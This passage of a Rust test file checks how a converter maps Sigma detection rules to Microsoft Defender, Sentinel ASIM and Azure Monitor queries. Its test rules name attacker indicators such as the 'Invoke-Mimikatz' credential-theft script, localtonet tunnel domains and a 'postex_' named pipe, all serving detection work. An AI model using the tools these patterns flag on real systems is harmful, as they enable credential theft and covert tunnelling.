use super::*;
use crate::base::diag::Severity;
use crate::sigma::compiled::{compile_detection, Placeholders};
use crate::sigma::expr::lower;
use crate::sigma::rule::parse_rule;
use crate::sigma::string::{Part, SigmaString};

const LOCALTONET: &str = include_str!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/corpus/sigmahq/rules/windows/network_connection/net_connection_win_domain_localtonet_tunnel.yml"
));

fn rule(text: &str) -> Rule {
    parse_rule(text).unwrap_or_else(|d| panic!("{d:#?}"))
}

fn rule_with(logsource: &str, detection: &str) -> Rule {
    rule(&format!("title: t\nlogsource:\n{logsource}\ndetection:\n{detection}"))
}

fn map_with(p: &Pipeline, r: &Rule) -> Mapped {
    let (compiled, diags) = compile_detection(&r.detection, &Placeholders::new());
    assert!(!diags.iter().any(Diagnostic::is_error), "{diags:#?}");
    apply(p, r, lower(&compiled))
}

fn map(target: &str, r: &Rule) -> Mapped {
    map_with(&builtin(target).unwrap_or_else(|| panic!("{target}")), r)
}

fn leaves(m: &Mapped) -> Vec<MappedItem> {
    let mut out = Vec::new();
    m.expr.for_each_leaf(&mut |l| out.push(l.clone()));
    out
}

/// (column, tests as Sigma text) of every leaf.
fn shown(m: &Mapped) -> Vec<(String, Vec<String>)> {
    leaves(m)
        .into_iter()
        .map(|l| (l.item.field.unwrap_or_default(), l.item.tests.iter().map(Test::describe).collect()))
        .collect()
}

fn has_leaf(m: &Mapped, col: &str, value: &str) -> bool {
    shown(m).iter().any(|(c, vs)| c == col && vs.iter().any(|v| v == value))
}

fn codes(m: &Mapped) -> Vec<(Severity, String)> {
    m.notes.iter().map(|n| (n.severity, n.code.clone())).collect()
}

fn no_errors(m: &Mapped) {
    assert!(!m.notes.iter().any(Diagnostic::is_error), "{:#?}", m.notes);
}

// ---------------------------------------------------------------------------
// Schema

fn load_schema() -> serde_json::Value {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/tools/kql-check/schema.json");
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn schema_columns<'a>(
    schema: &'a serde_json::Value,
    table: &str,
) -> Option<&'a serde_json::Map<String, serde_json::Value>> {
    for group in ["tables", "functions"] {
        if let Some(entry) = schema.get(group).and_then(|g| g.get(table)) {
            if let Some(other) = entry.get("same_as").and_then(|s| s.as_str()) {
                return schema_columns(schema, other);
            }
            return entry.get("columns").and_then(|c| c.as_object());
        }
    }
    None
}

#[test]
fn every_builtin_target_column_exists_in_schema_json() {
    let schema = load_schema();
    let mut missing = Vec::new();
    let targets = targets::all_targets();
    assert!(targets.len() > 200, "{}", targets.len());
    for (target, table, field, col) in targets {
        let Some(cols) = schema_columns(&schema, table) else {
            missing.push(format!("{}: table {table} (for {field}) not in schema.json", target.name()));
            continue;
        };
        let ok = match col.split_once('.').or_else(|| col.split_once(':')) {
            // A path is into a dynamic column, or into a string column that holds JSON text,
            // an event's XML, or an audit record's key=value text.
            Some((base, _)) => match cols.get(base).and_then(|t| t.as_str()) {
                Some("dynamic") => true,
                Some("string") => matches!(
                    crate::kusto::schema::column_type(table, &col),
                    ColumnType::JsonText | ColumnType::EventXml | ColumnType::AuditField | ColumnType::CefExtension
                ),
                _ => false,
            },
            None => cols.contains_key(&col),
        };
        if !ok {
            missing.push(format!("{}: {table}.{col} (for {field})", target.name()));
        }
    }
    assert!(missing.is_empty(), "target columns missing from schema.json:\n{}", missing.join("\n"));
}

#[test]
#[cfg(feature = "all-tables")]
fn embedded_schema_matches_schema_json() {
    // The generated file must be re-made (scripts/gen_pipeline_schema.py) when schema.json changes.
    let schema = load_schema();
    let mut count = 0;
    for group in ["tables", "functions"] {
        let Some(entries) = schema.get(group).and_then(|g| g.as_object()) else { continue };
        for (name, entry) in entries {
            let cols = schema_columns(&schema, name).unwrap_or_else(|| panic!("{name}"));
            let embedded = table_columns(name).unwrap_or_else(|| panic!("{name} not embedded"));
            assert_eq!(cols.len(), embedded.len(), "{name}");
            for (col, ty) in cols {
                let want = ty.as_str().unwrap_or("");
                let got = serde_json::to_value(column_type(name, col)).unwrap_or_default();
                assert_eq!(got.as_str(), Some(want), "{name}.{col}");
            }
            count += usize::from(entry.get("same_as").is_none());
        }
    }
    assert_eq!(count, crate::kusto::schema::schema_table_count());
}

// ---------------------------------------------------------------------------
// The seed rule on every target

#[test]
fn localtonet_on_microsoft_xdr() {
    let m = map("microsoft_xdr", &rule(LOCALTONET));
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceNetworkEvents"));
    assert!(has_leaf(&m, "RemoteUrl", "*.localto.net"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "RemoteUrl", "*.localtonet.com"));
    // Initiated is a direction; Defender's ActionType says it (as Microsoft's own ASIM parser reads it).
    assert!(has_leaf(&m, "ActionType", "ConnectionSuccess"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "ActionType", "ConnectionFailed"));
    assert!(!shown(&m).iter().any(|(_, v)| v.iter().any(|v| v == "true")));
    let cols: Vec<_> = leaves(&m).iter().map(|l| (l.item.field.clone(), l.column_type)).collect();
    assert!(cols.contains(&(Some("RemoteUrl".into()), ColumnType::String)));
    let fm =
        m.field_mappings.iter().find(|f| f.sigma == "Initiated").unwrap_or_else(|| panic!("{:?}", m.field_mappings));
    assert_eq!(fm.targets, vec!["ActionType".to_string()]);
}

#[test]
fn localtonet_on_sentinel_asim() {
    let m = map("sentinel_asim", &rule(LOCALTONET));
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("imNetworkSession"));
    // A dotted name is an FQDN: the schema puts it in DstFQDN; DstHostname is
    // searched too because real parsers differ.
    assert!(has_leaf(&m, "DstFQDN", "*.localto.net"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "DstHostname", "*.localto.net"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "NetworkDirection", "Outbound"), "{:?}", shown(&m));
    assert!(!has_leaf(&m, "NetworkDirection", "true"));
    assert!(!shown(&m).iter().any(|(_, v)| v.iter().any(|v| v == "true")));
    let dir = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("NetworkDirection"));
    assert_eq!(dir.map(|l| l.sigma_field), Some(Some("Initiated".to_string())));
}

#[test]
fn localtonet_on_azure_monitor_reads_sysmon_in_windows_event() {
    let m = map("azure_monitor", &rule(LOCALTONET));
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("WindowsEvent"));
    // Sysmon's network events: its channel and event id, then its named values.
    assert!(has_leaf(&m, "Channel", "Microsoft-Windows-Sysmon/Operational"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "EventID", "3"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "EventData.DestinationHostname", "*.localto.net"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "EventData.Initiated", "true"), "{:?}", shown(&m));
}

#[test]
fn windows_event_fields_follow_the_event_schema() {
    // A value Sysmon never writes for the event is an error, not a guessed path.
    let r = rule("title: t\nlogsource: {product: windows, category: image_load}\ndetection:\n  sel:\n    ImageLoaded|endswith: '\\x.dll'\n    CommandLine: y\n  condition: sel\n");
    let m = map("azure_monitor", &r);
    let err = m.notes.iter().find(|n| n.code == "unmapped-field").unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert!(
        err.message.contains("CommandLine") && err.message.contains("Sysmon writes no such value"),
        "{}",
        err.message
    );
    assert!(has_leaf(&m, "EventData.ImageLoaded", "*\\x.dll"), "{:?}", shown(&m));
    // Sysmon's spelling wins over the rule's case.
    let r = rule("title: t\nlogsource: {product: windows, category: process_access}\ndetection:\n  sel:\n    SourceProcessGuid: '{1}'\n  condition: sel\n");
    assert!(shown(&map("azure_monitor", &r)).iter().any(|(c, _)| c == "EventData.SourceProcessGUID"));
    // Registry events share an id: the kind is selected too.
    let r = rule("title: t\nlogsource: {product: windows, category: registry_set}\ndetection:\n  sel:\n    TargetObject|contains: '\\Run\\'\n  condition: sel\n");
    let m = map("azure_monitor", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "EventData.EventType", "SetValue") && has_leaf(&m, "EventID", "13"), "{:?}", shown(&m));
    // A channel (service) reads any named value.
    let r = rule("title: t\nlogsource: {product: windows, service: system}\ndetection:\n  sel:\n    Provider_Name: Service Control Manager\n    EventID: 7045\n    ImagePath|contains: powershell\n  condition: sel\n");
    let m = map("azure_monitor", &r);
    no_errors(&m);
    assert!(
        has_leaf(&m, "Channel", "System") && has_leaf(&m, "Provider", "Service Control Manager"),
        "{:?}",
        shown(&m)
    );
    assert!(has_leaf(&m, "EventData.ImagePath", "*powershell*"), "{:?}", shown(&m));
    // Classic PowerShell events: the Event table, Data in its XML text; other names are refused.
    let r = rule("title: t\nlogsource: {product: windows, category: ps_classic_start}\ndetection:\n  sel:\n    Data|contains: x\n  condition: sel\n");
    let m = map("azure_monitor", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("Event"));
    assert!(has_leaf(&m, "EventLog", "Windows PowerShell") && has_leaf(&m, "EventID", "400"), "{:?}", shown(&m));
    let r = rule("title: t\nlogsource: {product: windows, category: ps_classic_start}\ndetection:\n  sel:\n    HostApplication|contains: x\n  condition: sel\n");
    let m = map("azure_monitor", &r);
    let err = m.notes.iter().find(|n| n.code == "unmapped-field").unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert!(err.message.contains("unnamed"), "{}", err.message);
}

#[test]
fn asim_falls_back_to_the_native_table_and_says_so() {
    let r = rule("title: t\nlogsource: {product: windows, category: ps_script}\ndetection:\n  sel:\n    ScriptBlockText|contains: Invoke-Mimikatz\n  condition: sel\n");
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("WindowsEvent"));
    assert!(m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
    assert!(has_leaf(&m, "EventID", "4104") && has_leaf(&m, "EventData.ScriptBlockText", "*Invoke-Mimikatz*"));
    // Where an ASIM schema fits, no fallback.
    let m = map("sentinel_asim", &rule(LOCALTONET));
    assert!(!m.notes.iter().any(|n| n.code == "native-table"));
}

/// A successful logon with these extra detection lines, as windows/security rules write it.
fn logon_rule(extra: &str) -> Rule {
    rule_with(
        "  product: windows\n  service: security",
        &format!("  sel:\n    EventID: 4624\n{extra}  condition: sel\n"),
    )
}

#[test]
fn asim_schema_lacking_a_field_gives_way_to_the_native_table() {
    let m = map("sentinel_asim", &logon_rule("    LogonType: 10\n    IpAddress: '127.0.0.1'\n"));
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("SecurityEvent"));
    assert!(has_leaf(&m, "LogonType", "10") && has_leaf(&m, "IpAddress", "127.0.0.1"), "{:?}", shown(&m));
    let note = m.notes.iter().find(|n| n.code == "native-table").unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert!(note.message.starts_with("imAuthentication has no column for LogonType ("), "{}", note.message);
    assert!(note.message.contains("the native table SecurityEvent"), "{}", note.message);
    // The ASIM schema's notes are not kept: it is not what the query reads.
    assert!(!m.notes.iter().any(|n| n.code == "table-from-eventid" || n.message.contains("imAuthentication on")));
    // The query is azure_monitor's, and an event lands on the same table's row.
    assert_eq!(m.expr, map("azure_monitor", &logon_rule("    LogonType: 10\n    IpAddress: '127.0.0.1'\n")).expr);
    let r = logon_rule("    LogonType: 10\n");
    let (row, _) =
        map_event(&builtin("sentinel_asim").unwrap_or_default(), &r, &ev(r#"{"EventID": 4624, "LogonType": 10}"#));
    assert_eq!(row.get("LogonType"), Some(&serde_json::json!(10)), "{row}");
}

#[test]
fn asim_schema_that_holds_the_rule_stays() {
    let m = map("sentinel_asim", &logon_rule("    TargetUserName: admin\n"));
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("imAuthentication"));
    assert!(!m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
    // A lacking field in one alternative is left out (lossy): the rule converts on ASIM, so it stays there.
    let r = rule_with(
        "  product: windows\n  service: security",
        "  sel1:\n    EventID: 4624\n    LogonType: 10\n  sel2:\n    EventID: 4624\n    TargetUserName: admin\n  condition: 1 of sel*\n",
    );
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("imAuthentication"));
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".into())), "{:#?}", m.notes);
    assert!(!m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
}

#[test]
fn rule_failing_on_both_keeps_the_asim_error() {
    // Neither imNetworkSession nor Sysmon's network event (WindowsEvent) has a command line.
    let r = rule_with(
        "  product: windows\n  category: network_connection",
        "  sel:\n    Image|endswith: '\\rundll32.exe'\n    CommandLine: ''\n  condition: sel\n",
    );
    assert!(map("azure_monitor", &r).notes.iter().any(Diagnostic::is_error));
    let m = map("sentinel_asim", &r);
    assert_eq!(m.table.as_deref(), Some("imNetworkSession"));
    let err = m.notes.iter().find(|n| n.is_error()).unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert!(err.message.starts_with("CommandLine on imNetworkSession: "), "{}", err.message);
    assert!(!m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
}

#[test]
fn localtonet_on_none_keeps_names() {
    let m = map("none", &rule(LOCALTONET));
    assert!(m.notes.is_empty());
    assert_eq!(m.table, None);
    assert!(has_leaf(&m, "DestinationHostname", "*.localto.net"));
    assert!(has_leaf(&m, "Initiated", "true"));
}

#[test]
fn alias_and_names() {
    assert_eq!(builtin("microsoft_365_defender").map(|p| p.target), Some(Some(TargetId::MicrosoftXdr)));
    assert!(builtin("splunk").is_none());
    for n in BUILTIN_NAMES {
        assert!(builtin(n).is_some(), "{n}");
    }
}

// ---------------------------------------------------------------------------
// Value mappings

fn parts_of(m: &Mapped, col: &str) -> Vec<Vec<Part>> {
    let mut out = Vec::new();
    for l in leaves(m) {
        if l.item.field.as_deref() == Some(col) {
            for t in &l.item.tests {
                if let Test::Glob { pattern, .. } = t {
                    out.push(pattern.parts.clone());
                }
            }
        }
    }
    out
}

fn lit(s: &str) -> Part {
    Part::Lit(s.to_string())
}

#[test]
fn registry_prefix_keeps_wildcards() {
    let r = rule_with(
        "  category: registry_set\n  product: windows",
        "  sel:\n    TargetObject|startswith: 'HKLM\\Software\\'\n  condition: sel",
    );
    for target in ["microsoft_xdr", "sentinel_asim"] {
        let m = map(target, &r);
        no_errors(&m);
        let keys = parts_of(&m, "RegistryKey");
        // The trailing wildcard of `startswith` survives the hive rewrite (pySigma's loses it).
        assert!(keys.contains(&vec![lit("HKEY_LOCAL_MACHINE\\Software\\"), Part::Star]), "{target}: {keys:?}");
        assert!(!keys.iter().flatten().any(|p| matches!(p, Part::Lit(t) if t.contains('*') || t.starts_with("HKLM"))));
    }
    let r = rule_with(
        "  category: registry_set\n  product: windows",
        "  sel:\n    TargetObject|contains: 'HKU\\S-1-5-21*\\Run\\'\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    let keys = parts_of(&m, "RegistryKey");
    assert!(keys.iter().any(|p| p.first() == Some(&Part::Star)), "contains keeps its leading wildcard: {keys:?}");
}

#[test]
fn registry_value_name_is_split_from_the_key() {
    let r = rule_with(
        "  category: registry_set\n  product: windows",
        "  sel:\n    TargetObject|endswith: '\\WinStations\\RDP-Tcp\\PortNumber'\n  filter:\n    Details: DWORD (0x00000d3d)\n  condition: sel and not filter",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "RegistryKey", "*\\WinStations\\RDP-Tcp"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "RegistryValueName", "PortNumber"));
    assert!(has_leaf(&m, "RegistryValueData", "3389"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "RegistryValueType", "Dword"));
    assert!(has_leaf(&m, "ActionType", "RegistryValueSet"));
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "RegistryValue", "PortNumber"), "{:?}", shown(&m));
    // ASIM rows may come from Sysmon (text kept) or from Defender (decimal).
    assert!(has_leaf(&m, "RegistryValueData", "DWORD (0x00000d3d)"));
    assert!(has_leaf(&m, "RegistryValueData", "3389"));
    assert!(has_leaf(&m, "RegistryValueType", "Reg_DWord"));
}

#[test]
fn registry_event_type_vocabulary() {
    let r = rule_with(
        "  category: registry_event\n  product: windows",
        "  sel:\n    EventType: '*Key'\n    TargetObject|contains: '\\CurrentControlSet\\Services\\'\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    for v in ["RegistryKeyCreated", "RegistryKeyDeleted", "RegistryKeyRenamed"] {
        assert!(has_leaf(&m, "ActionType", v), "{v}: {:?}", shown(&m));
    }
    assert!(!has_leaf(&m, "ActionType", "RegistryValueSet"));
    let keys = parts_of(&m, "RegistryKey");
    let numbered = vec![Part::Star, lit("\\ControlSet00"), Part::Quest, lit("\\Services\\"), Part::Star];
    assert!(keys.contains(&numbered), "{keys:?}");
    assert!(keys.contains(&vec![Part::Star, lit("\\CurrentControlSet\\Services\\"), Part::Star]));
    let m = map("sentinel_asim", &r);
    assert!(has_leaf(&m, "EventType", "RegistryKeyRenamed"));
}

#[test]
fn hashes_split_per_algorithm() {
    let sha = "1F1D918EC49E0B7C59B704FF412E1A6E224DA81C08CDA657E1CB482ABAAC146C";
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        &format!("  sel:\n    Hashes|contains:\n      - 'SHA256={sha}'\n      - 'MD5=352B525E9C26CB92693899528FE007C2'\n      - 'IMPHASH=94F3EFC2DF40ECD7229B904540DD83CF'\n  condition: sel"),
    );
    let m = map("microsoft_xdr", &r);
    assert!(has_leaf(&m, "SHA256", sha), "{:?}", shown(&m));
    assert!(has_leaf(&m, "MD5", "352B525E9C26CB92693899528FE007C2"));
    // No IMPHASH column in Defender: said, not silent.
    assert!(m.notes.iter().any(|n| n.code == "lossy-mapping" && n.message.contains("IMPHASH")), "{:#?}", m.notes);
    no_errors(&m);
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "TargetProcessIMPHASH", "94F3EFC2DF40ECD7229B904540DD83CF"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "TargetProcessSHA256", sha));
    // A partial hash keeps its wildcard.
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    Hashes|contains: 'SHA1=ABCDEF'\n  condition: sel",
    );
    assert!(has_leaf(&map("microsoft_xdr", &r), "SHA1", "ABCDEF*"));
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    Hashes|contains: 'IMPHASH=94F3EFC2DF40ECD7229B904540DD83CF'\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-value"), "{:#?}", m.notes);
}

#[test]
fn user_domain_split_and_parent_basename() {
    let r = rule_with(
        "  category: file_event\n  product: windows",
        "  sel:\n    User|contains: 'AUTHORI'\n    ParentImage|endswith: '\\explorer.exe'\n  sel2:\n    User: 'NT AUTHORITY\\SYSTEM'\n  condition: sel or sel2",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "InitiatingProcessAccountDomain", "*AUTHORI*"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "InitiatingProcessAccountName", "*AUTHORI*"));
    assert!(has_leaf(&m, "InitiatingProcessAccountDomain", "NT AUTHORITY"));
    assert!(has_leaf(&m, "InitiatingProcessAccountName", "SYSTEM"));
    // `*\explorer.exe` on a full path is exactly `explorer.exe` as a file name: no note.
    assert!(has_leaf(&m, "InitiatingProcessParentFileName", "explorer.exe"));
    assert!(!m.notes.iter().any(|n| n.code == "lossy-mapping"), "{:#?}", m.notes);
    let r = rule_with(
        "  category: file_event\n  product: windows",
        "  sel:\n    ParentImage: 'C:\\Windows\\explorer.exe'\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    assert!(has_leaf(&m, "InitiatingProcessParentFileName", "explorer.exe"));
    let note = m.notes.iter().find(|n| n.code == "lossy-mapping").unwrap_or_else(|| panic!("{:#?}", m.notes));
    assert!(note.message.contains("ParentImage") && note.message.contains("folder"), "{}", note.message);
}

#[test]
fn eventid_drops_are_explained() {
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    EventID: 1\n    Image|endswith: '\\cmd.exe'\n  sel2:\n    EventID: 5\n  condition: sel and sel2",
    );
    let m = map("sentinel_asim", &r);
    let c = codes(&m);
    assert!(c.contains(&(Severity::Info, "dropped-item".into())), "{c:?}");
    assert!(c.contains(&(Severity::Warning, "lossy-mapping".into())), "{c:?}");
    assert_eq!(m.table.as_deref(), Some("imProcessCreate"));
    assert!(has_leaf(&m, "TargetProcessName", "*\\cmd.exe"));
    assert!(!shown(&m).iter().any(|(c, _)| c == "EventID"));
}

#[test]
fn unmapped_field_is_an_error_naming_field_and_table() {
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    CurrentDirectory|contains: '\\Temp\\'\n    NoSuchField: x\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    let errs: Vec<_> = m.notes.iter().filter(|n| n.code == "unmapped-field").collect();
    assert_eq!(errs.len(), 2, "{:#?}", m.notes);
    assert!(errs.iter().all(|e| e.is_error() && e.message.contains("DeviceProcessEvents")));
    assert!(errs.iter().any(|e| e.message.contains("CurrentDirectory") && e.message.contains("working directory")));
    assert!(errs.iter().any(|e| e.message.contains("NoSuchField")));
    assert_eq!(errs.iter().map(|e| e.line()).collect::<Vec<_>>(), vec![7, 8]);
    // A Sigma name that is a column of the table is kept.
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    ProcessTokenElevation: TokenElevationTypeFull\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "ProcessTokenElevation", "TokenElevationTypeFull"));
}

#[test]
fn azure_monitor_security_and_4688() {
    let r = rule_with(
        "  product: windows\n  service: security",
        "  sel:\n    EventID: 4624\n    LogonType: 10\n    TaskName: x\n    SubjectUserNameX: y\n  condition: sel",
    );
    let m = map("azure_monitor", &r);
    assert_eq!(m.table.as_deref(), Some("SecurityEvent"));
    assert!(has_leaf(&m, "EventID", "4624"));
    let lt = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("LogonType"));
    assert_eq!(lt.map(|l| l.column_type), Some(ColumnType::Int));
    // A Security value without a column is read from EventData's XML; a name no Security event writes is an error.
    let task = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("EventData.TaskName"));
    assert_eq!(task.map(|l| l.column_type), Some(ColumnType::EventXml));
    assert!(m
        .notes
        .iter()
        .any(|n| n.is_error() && n.message.contains("SubjectUserNameX") && n.message.contains("EventData")));
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    Image|endswith: '\\whoami.exe'\n    IntegrityLevel: High\n    User|contains: 'AUTHORI'\n  condition: sel",
    );
    let m = map("azure_monitor", &r);
    no_errors(&m);
    assert!(has_leaf(&m, "EventID", "4688"));
    assert!(has_leaf(&m, "NewProcessName", "*\\whoami.exe"));
    assert!(has_leaf(&m, "MandatoryLabel", "S-1-16-12288"));
    assert!(has_leaf(&m, "SubjectUserName", "*AUTHORI*"), "{:?}", shown(&m));
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    OriginalFileName: whoami.exe\n  condition: sel",
    );
    // OriginalFileName is not in event 4688: Sysmon's process events in WindowsEvent serve the rule.
    let m = map("azure_monitor", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("WindowsEvent"));
    assert!(m.notes.iter().any(|n| n.code == "table-for-field" && n.message.contains("OriginalFileName")));
    assert!(
        has_leaf(&m, "EventData.OriginalFileName", "whoami.exe") && has_leaf(&m, "EventID", "1"),
        "{:?}",
        shown(&m)
    );
    // A field neither records stays an error on SecurityEvent.
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    GrandParentImage: x.exe\n  condition: sel",
    );
    let m = map("azure_monitor", &r);
    assert!(m.notes.iter().any(|n| n.is_error() && n.message.contains("4688")), "{:#?}", m.notes);
    let r = rule_with("  category: process_creation\n  product: linux", "  sel:\n    Image: /bin/sh\n  condition: sel");
    // Linux process creation is Sysmon for Linux's, in Syslog (not event 4688).
    assert_eq!(map("azure_monitor", &r).table.as_deref(), Some("Syslog"));
}

#[test]
fn eventid_fallback_without_category() {
    let r = rule_with(
        "  product: windows\n  service: security",
        "  selection:\n    EventID: 4625\n    TargetUserName: admin\n    LogonType: 10\n  condition: selection",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceLogonEvents"));
    assert!(has_leaf(&m, "ActionType", "LogonFailed"));
    assert!(has_leaf(&m, "LogonType", "RemoteInteractive"));
    assert!(m.notes.iter().any(|n| n.code == "table-from-eventid"));
    // imAuthentication has no logon type: sentinel_asim reads SecurityEvent for this rule.
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("SecurityEvent"));
    assert!(m.notes.iter().any(|n| n.code == "native-table" && n.message.contains("LogonType")));
    let r = rule_with(
        "  product: windows\n  service: security",
        "  selection:\n    EventID: 4625\n    TargetUserName: admin\n  condition: selection",
    );
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("imAuthentication"));
    assert!(has_leaf(&m, "EventResult", "Failure"));
    assert!(has_leaf(&m, "TargetUsername", "*\\admin"), "{:?}", shown(&m));
    assert!(m.notes.iter().any(|n| n.code == "table-from-eventid"));
    // Service state changes (7036) have no Defender action type; installs (7045) do.
    let r = rule_with("  product: windows\n  service: system", "  sel:\n    EventID: 7036\n  condition: sel");
    let m = map("microsoft_xdr", &r);
    assert!(m.notes.iter().any(|n| n.code == "no-table" && n.is_error()));
}

#[test]
fn deviceevents_categories_select_their_action_type() {
    let r = rule_with(
        "  category: pipe_created\n  product: windows",
        "  sel:\n    PipeName: '\\postex_'\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    assert_eq!(m.table.as_deref(), Some("DeviceEvents"));
    assert!(has_leaf(&m, "ActionType", "NamedPipeEvent"));
    let pipe = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("AdditionalFields.PipeName"));
    assert_eq!(pipe.as_ref().map(|l| l.column_type), Some(ColumnType::Dynamic));
    assert!(has_leaf(&m, "AdditionalFields.PipeName", "*\\postex_"));
    let cond = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("ActionType"));
    assert_eq!(cond.map(|l| l.sigma_field), Some(None));
    let r = rule_with(
        "  category: ps_script\n  product: windows",
        "  sel:\n    ScriptBlockText|contains: x\n  condition: sel",
    );
    assert!(map("microsoft_xdr", &r).notes.iter().any(|n| n.code == "no-table"));
}

#[test]
fn field_references_are_mapped_too() {
    let r = rule_with(
        "  category: process_creation\n  product: windows",
        "  sel:\n    Image|endswith: '\\calc.exe'\n  filter:\n    User|fieldref: ParentUser\n  same:\n    CommandLine|fieldref: ParentCommandLine\n  condition: sel and not filter and not same",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    let refs: Vec<(String, String)> = leaves(&m)
        .into_iter()
        .filter_map(|l| match l.item.tests.first() {
            Some(Test::FieldRef { field, .. }) => Some((l.item.field.unwrap_or_default(), field.clone())),
            _ => None,
        })
        .collect();
    assert!(refs.contains(&("AccountName".into(), "InitiatingProcessAccountName".into())), "{refs:?}");
    assert!(refs.contains(&("AccountDomain".into(), "InitiatingProcessAccountDomain".into())));
    assert!(refs.contains(&("ProcessCommandLine".into(), "InitiatingProcessCommandLine".into())));
    let r = rule_with(
        "  category: file_delete\n  product: windows",
        "  sel:\n    TargetFilename|fieldref: Image\n  condition: sel",
    );
    let m = map("sentinel_asim", &r);
    no_errors(&m);
    assert!(leaves(&m)
        .iter()
        .any(|l| matches!(l.item.tests.first(), Some(Test::FieldRef { field, .. }) if field == "ActingProcessName")));
    let m = map(
        "microsoft_xdr",
        &rule_with(
            "  category: process_creation\n  product: windows",
            "  sel:\n    Image|fieldref: CurrentDirectory\n  condition: sel",
        ),
    );
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-value"), "{:#?}", m.notes);
}

#[test]
fn negation_and_all_are_kept() {
    let r = rule_with(
        "  category: network_connection\n  product: windows",
        "  sel:\n    Image|endswith: '\\x.exe'\n  filter:\n    User|contains|all: ['a', 'b']\n  condition: sel and not filter",
    );
    let m = map("sentinel_asim", &r);
    let text = format!("{:?}", m.expr);
    assert!(text.contains("Not"), "{text}");
    let all: Vec<_> = leaves(&m).into_iter().filter(|l| l.item.all).collect();
    assert_eq!(all.len(), 2, "{:?}", shown(&m));
}

// ---------------------------------------------------------------------------
// Custom pipelines

const CUSTOM: &str = "\
name: my pipeline
priority: 20
transformations:
  - id: rename_image
    type: field_name_mapping
    mapping:
      ProcPath: Image
      Cmd: [CommandLine, ParentCommandLine]
    rule_conditions:
      - type: logsource
        category: process_creation
  - id: drop_host
    type: drop_detection_item
    field_name_conditions:
      - type: include_fields
        fields: [Hostname]
  - id: strip
    type: replace_string
    regex: '^C:'
    replacement: '%SystemDrive%'
    detection_item_conditions:
      - type: include_fields
        fields: [Image]
  - id: tenant
    type: add_condition
    conditions:
      Tenant: prod
";

#[test]
fn custom_pipeline_parses_and_chains_before_builtin() {
    let custom = parse_custom(CUSTOM).unwrap_or_else(|d| panic!("{d:#?}"));
    assert_eq!(custom.name, "my pipeline");
    assert_eq!(custom.priority, 20);
    assert_eq!(custom.transformations.len(), 4);
    assert!(custom.warnings.is_empty(), "{:#?}", custom.warnings);
    let r = rule_with(
